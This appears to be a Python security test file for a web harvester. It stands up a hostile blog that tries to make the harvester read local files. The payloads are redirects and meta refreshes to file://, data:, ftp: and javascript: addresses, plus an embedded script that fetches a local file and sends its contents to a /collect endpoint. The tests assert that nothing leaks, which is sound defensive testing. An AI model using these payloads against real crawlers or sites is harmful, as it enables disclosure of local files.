"""A blog that wants the files of the machine on which it is harvested."""

from base64 import b64encode

from tests.hostile.archive_search import ledger_entries, posts, where
from tests.hostile.attack import attack
from tests.hostile.ground import Ground, Run
from tests.hostile.hostile_blog import PICTURES, POSTS, hostile_blog
from tests.loopback import respond

SECRET = b"the-secret-of-this-machine-7f3a"
_SITEMAP = "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url><loc>{}</loc></url></urlset>"


def secret_file(ground: Ground) -> str:
    """The file:// address of a file that nobody may read."""
    file = ground.folder / "secret.html"
    file.write_bytes(b"<html><title>" + SECRET + b"</title><p>" + SECRET + b"</p></html>")
    return file.as_uri()


def nothing_leaked(ground: Ground, run: Run) -> None:
    """The harvest went well and the secret is nowhere."""
    assert run.code == 0, run.errors
    assert posts(ground.archive) == POSTS
    assert where(SECRET, ground.archive) == []
    assert "Traceback" not in run.errors
    assert "Unhandled" not in run.errors


@attack("local files", "redirects of pages, pictures, feeds and sitemaps to files")
def redirects_to_files(ground: Ground) -> None:
    file = secret_file(ground)
    targets = {
        "file": file,
        "upper": file.replace("file:", "FILE:"),
        "host": file.replace("file://", "file://localhost"),
        "slash": file.replace("file://", "file:"),
        "data": f"data:text/html;base64,{b64encode(SECRET).decode()}",
        "ftp": "ftp://127.0.0.1:1/secret",
        "s3": "s3://bucket/secret",
        "javascript": "javascript:alert(1)",
    }
    hostile = {f"/to-{name}": respond(302, Location=to) for name, to in targets.items()}
    hostile |= {f"/refresh-{name}": respond(200, _refresh(to)) for name, to in targets.items() if name != "data"}
    hostile |= {
        "/sitemap.xml": respond(302, Location=file),
        "/picture.png": respond(302, Location=file),
        "/feed2": respond(302, Location=file),
        "/sitemap-of-files.xml": respond(200, _SITEMAP.format(file), Content_Type="application/xml"),
    }
    more = f"<img src='/picture.png'><img src='{file}'><a href='{file}'>x</a><link rel=alternate href='/feed2'>"
    with hostile_blog(hostile, more=more) as (home, _):
        run = ground.harvest(home)
    nothing_leaked(ground, run)
    told = ledger_entries(ground.archive)
    for name in targets:
        assert told[f"{home}to-{name}"].startswith("failed: redirects to"), name
        assert told[f"{home}to-{name}"].endswith("which is not an address of the web"), name


@attack("local files", "pictures of posts that redirect to files", repeats=True)
def pictures_of_files(ground: Ground) -> None:
    hostile = dict.fromkeys(PICTURES, respond(302, Location=secret_file(ground)))
    with hostile_blog(hostile) as (home, server):
        run = ground.harvest(home)
    nothing_leaked(ground, run)
    assert set(PICTURES) & set(server.asked)


@attack("local files", "a script that fetches a file and sends it home", slow=True)
def script_that_fetches_files(ground: Ground) -> None:
    file = secret_file(ground)
    sent: list[str] = []

    def collect(handler) -> None:
        sent.append(handler.path)
        respond(200, "ok")(handler)

    script = f"""<div id=app></div><script>
        const send = (text) => fetch("/collect?" + encodeURIComponent(text));
        for (const where of ["/to-file", "{file}"]) {{
            fetch(where).then((answer) => answer.text()).then(send, () => send("refused"));
            const asked = new XMLHttpRequest();
            asked.onload = () => send(asked.responseText);
            asked.open("GET", where);
            try {{ asked.send(); }} catch {{ send("refused"); }}
        }}
    </script>"""
    shell = f"<!doctype html><title>Shell</title>{script}"
    hostile = {"/shell": respond(200, shell), "/to-file": respond(302, Location=file), "*": collect}
    with hostile_blog(hostile) as (home, _):
        run = ground.harvest(home, "--render", "always", within=180)
    nothing_leaked(ground, run)
    assert any("refused" in path for path in sent)
    assert [path for path in sent if SECRET.decode() in path] == []


def _refresh(to: str) -> str:
    return f"<!doctype html><title>Moved</title><meta http-equiv=refresh content='0; url={to}'><p>Moved</p>"
